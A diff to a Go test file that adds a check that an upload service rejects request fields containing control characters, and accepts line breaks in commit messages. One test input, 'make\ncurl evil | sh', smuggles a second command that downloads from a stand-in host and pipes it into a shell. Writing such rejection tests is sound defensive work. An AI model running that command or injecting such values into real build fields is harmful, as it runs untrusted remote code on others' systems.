@@ -7,6 +7,7 @@ import (
 	"io"
 	"os"
 	"runtime"
+	"strings"
 	"testing"
 
 	"github.com/prometheus/client_golang/prometheus"
@@ -218,5 +219,25 @@ func TestPlatformOfThisTestBinary(t *testing.T) {
 	defer fh.Close()
 	if p, want := Platform(fh), runtime.GOOS+"/"+runtime.GOARCH; p != want && runtime.GOOS == "linux" {
 		t.Fatalf("platform %q, want %q", p, want)
+	}
+}
+
+func TestBeginUploadRefusesControlCharacters(t *testing.T) {
+	s := newFixture(t, "").arts
+	for _, req := range []*arbiterv1.BeginUploadRequest{
+		{Build: "make\ncurl evil | sh"},
+		{Name: "dev\x1b[2J"},
+		{Exe: "engine\t"},
+	} {
+		req.Sha256, req.Size, req.Kind = strings.Repeat("a", 64), 10, arbiterv1.ArtifactKind_ARTIFACT_KIND_SOURCE
+		_, _, err := s.BeginUpload(alice, req)
+		if e, ok := apierr.As(err); !ok || e.Code != apierr.InvalidArgument || !strings.Contains(e.Msg, "control characters") {
+			t.Errorf("%v: %v, want refused for a control character", req, err)
+		}
+	}
+	req := &arbiterv1.BeginUploadRequest{Sha256: strings.Repeat("a", 64), Size: 10, Kind: arbiterv1.ArtifactKind_ARTIFACT_KIND_SOURCE,
+		Build: "make", Message: "fix\n\nlonger explanation"}
+	if _, _, err := s.BeginUpload(alice, req); err != nil {
+		t.Fatalf("a commit message with line breaks: %v", err)
 	}
 }
